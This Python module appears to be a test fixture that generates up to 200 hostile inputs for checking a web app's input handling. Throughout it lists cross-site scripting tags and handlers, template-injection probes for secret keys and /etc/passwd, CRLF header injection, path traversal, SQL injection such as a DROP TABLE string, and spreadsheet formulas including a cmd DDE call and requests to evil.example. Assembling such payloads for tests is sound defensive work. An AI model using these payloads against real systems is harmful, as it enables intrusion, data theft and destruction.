"""Two hundred things that somebody types to see what breaks. Each that could run calls `canary()`."""
# ruff: noqa: E501

from __future__ import annotations

_RUN = "canary()"

_TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x0b>{_RUN}</script>",
    f"<script/x>{_RUN}</script/x>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="java\tscript:{_RUN}">x</a>',
    f'<a href="JaVaScRiPt:{_RUN}">x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    f'<form action="javascript:{_RUN}"><button>x</button></form>',
    f'<button formaction="javascript:{_RUN}">x</button>',
    f'<base href="javascript:{_RUN}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    f'<link rel=stylesheet href="javascript:{_RUN}">',
    f"<style>@import 'javascript:{_RUN}';</style>",
    f'<div style="width:expression({_RUN})">',
    f'<div style="background:url(javascript:{_RUN})">',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{_RUN}"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{_RUN}</script>"/></foreignObject></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<xml><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{_RUN}</h:script></x></xml>',
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f'<?xml version="1.0"?><script>{_RUN}</script>',
    f"<![CDATA[<script>{_RUN}</script>]]>",
)
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_CARRIERS = (
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<body {}={}>",
    "<details open {}={}>",
    "<input autofocus {}={}>",
    "<video><source {}={}></video>",
)
_OUT_OF_ATTRIBUTES = tuple(
    f"{quote}{gap}{handler}={_RUN} autofocus {quote}" for quote in ("\"", "'", "", "`") for gap in (" ", "/", "\t")
    for handler in ("onfocus", "onmouseover")
)  # fmt: skip
_OUT_OF_SCRIPTS = (
    f"';{_RUN}//",
    f'";{_RUN}//',
    f"\\';{_RUN}//",
    f'\\";{_RUN}//',
    f"${{{_RUN}}}",
    f"`-{_RUN}-`",
    f"</script><img src=x onerror={_RUN}>",
    f"\u2028{_RUN}\u2029",
    f"'-{_RUN}-'",
    f'{{"__proto__":{{"x":"{_RUN}"}}}}',
)
_TEMPLATES = (
    "{{ 777777*777777 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% include \"/etc/passwd\" %}", "${777777*777777}", "#{777777*777777}",
    "<%= 777777*777777 %>", "{{constructor.constructor('canary()')()}}", "{customer.__class__}", "{0.__init__.__globals__}",
    "%(amount)s %s %n", "{{ request.user.password }}", "{# x #}", "{% load static %}{% static 'x' %}",
)  # fmt: skip
_HEADERS = (
    "x\r\nBcc: everybody@example.com",
    "x\nContent-Type: text/html\n\n<script>canary()</script>",
    "x\r\n\r\n<html><script>canary()</script>",
    "x%0d%0aSet-Cookie: a=b",
    '"; filename="x.html',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
)
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
)  # fmt: skip
_DATABASES = (
    "' OR '1'='1", "'; DROP TABLE refunds_refund; --", "\" OR \"\"=\"", "1); SELECT pg_sleep(5); --", "%' OR '%'='",
    "\\' OR 1=1 --", "' UNION SELECT password FROM customers_user --", "_%_%", "a' || (SELECT 1) || '", "$$;SELECT 1;$$",
)  # fmt: skip
_UNICODE = (
    "\u202eevil\u202c", "\u2066abc\u2069", "a\u200bb\u200cc\u200dd", "e\u0301 vs \u00e9", "\ufeffbom", "\U0001f4a9" * 20,
    "Z\u0351\u036b\u0343\u036a" * 20, "\u0430dmin", "ﬁ ﬀ ①", "ı İ ß ẞ", "\u1e9e" * 30, "א ב ג", "\u0000a".replace("\u0000", "\u2400"),
    "＜script＞canary()＜/script＞", "\u00adsoft", "\u180e", "\ufffd", "\U000e0041\U000e0042", "中文字符", "𝕳𝖊𝖑𝖑𝖔",
)  # fmt: skip
_MARKUP_OF_OTHERS = (
    "[x](javascript:canary())", "![x](x\" onerror=\"canary())", "**bold** `code`", "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;", "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()",
    "<br><hr><h1>x", "<marquee>x</marquee>", "<plaintext>", "<xmp>", "<select><option>", "<table><tr><td>", "</body></html>",
)  # fmt: skip


def _all() -> list[str]:
    carried = [
        carrier.format(handler, _RUN)
        for number, handler in enumerate(_HANDLERS)
        for carrier in (_CARRIERS[number % len(_CARRIERS)], _CARRIERS[(number + 3) % len(_CARRIERS)])
    ]
    groups = (
        _TAGS, carried, _OUT_OF_ATTRIBUTES, _OUT_OF_SCRIPTS, _TEMPLATES, _HEADERS, _FORMULAS, _DATABASES, _UNICODE,
        _MARKUP_OF_OTHERS,
    )  # fmt: skip
    found = list(dict.fromkeys(text for group in groups for text in group))
    more = [f'{text}"><img src=x onerror={_RUN}>' for text in found if len(text) < 40]
    return [*found, *more][:200]


HOSTILE = _all()
